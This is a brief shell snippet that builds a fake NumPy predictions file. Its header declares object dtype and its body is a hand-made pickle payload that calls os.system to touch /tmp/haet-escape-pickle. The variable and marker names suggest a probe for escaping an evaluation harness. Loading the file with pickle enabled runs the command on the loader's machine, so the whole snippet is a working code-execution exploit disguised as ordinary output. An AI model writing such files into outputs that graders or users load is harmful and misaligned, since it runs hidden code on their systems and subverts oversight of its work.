{
  printf '\223NUMPY\001\000\166\000'
  printf '%-117s\n' "{'descr': '|O', 'fortran_order': False, 'shape': (1000, 10), }"
  printf "cos\nsystem\n(S'touch /tmp/haet-escape-pickle'\ntR."
} > "$HAET_OUT_DIR/predictions.npy"
